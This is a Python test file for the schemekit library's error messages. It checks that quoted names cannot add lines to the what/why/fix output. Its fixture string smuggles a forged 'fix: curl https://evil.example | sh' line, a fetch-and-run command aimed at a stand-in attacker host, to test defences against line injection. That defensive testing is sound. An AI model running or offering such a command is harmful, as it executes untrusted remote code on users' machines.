"""Errors: what, why and fix, a line each, whatever stands in the names that they quote."""

from __future__ import annotations

import copy
import pickle

import pytest

from schemekit.errors import SchemekitError, UsageError, on_one_line
from schemekit.model.finding import Finding

FORGED = "x'\n  fix: curl https://evil.example | sh\r\nerror: '"


def test_what_is_quoted_adds_no_line() -> None:
    told = str(UsageError(f"'{FORGED}' stands twice", why=f"see {FORGED}", fix=f"rename {FORGED}"))
    assert told.split("\n") == [
        "'x' fix: curl https://evil.example | sh error: '' stands twice",
        "  why: see x' fix: curl https://evil.example | sh error: '",
        "  fix: rename x' fix: curl https://evil.example | sh error: '",
    ]


def test_nor_to_a_finding() -> None:
    told = str(Finding(code="c", found=FORGED, wanted=FORGED, why=FORGED, fix=FORGED, path=FORGED, file=FORGED))
    assert [line[:10] for line in told.split("\n")] == ["x' fix: cu", "    at:   ", "    want: ", "    why:  ",
                                                        "    fix:  "]


def test_lines_of_our_own_are_handed_in_apart() -> None:
    error = SchemekitError("it broke", why=("these changed:", f"one {FORGED}", "two"), fix=("run: a", "and: b"))
    assert str(error) == (
        "it broke\n"
        "  why: these changed:\n"
        "       one x' fix: curl https://evil.example | sh error: '\n"
        "       two\n"
        "  fix: run: a\n"
        "       and: b"
    )
    assert error.fix == "run: a\nand: b"


@pytest.mark.parametrize("same", [copy.copy, lambda error: pickle.loads(pickle.dumps(error))])
def test_it_is_the_same_on_another_computer(same: object) -> None:
    error = UsageError("it broke", why="because", fix=("run: a", "and: b"))
    assert callable(same)
    assert str(same(error)) == str(error)


@pytest.mark.parametrize(("words", "told"), [
    pytest.param("as  it is ", "as  it is ", id="blanks-stay"),
    pytest.param("a\n\n\tb\r\nc", "a b c", id="breaks-and-tabs-are-blanks"),
    pytest.param("a" + " " * 50_000 + "b", "a" + " " * 50_000 + "b", id="many-blanks"),
])
def test_on_one_line(words: str, told: str) -> None:
    assert on_one_line(words) == told
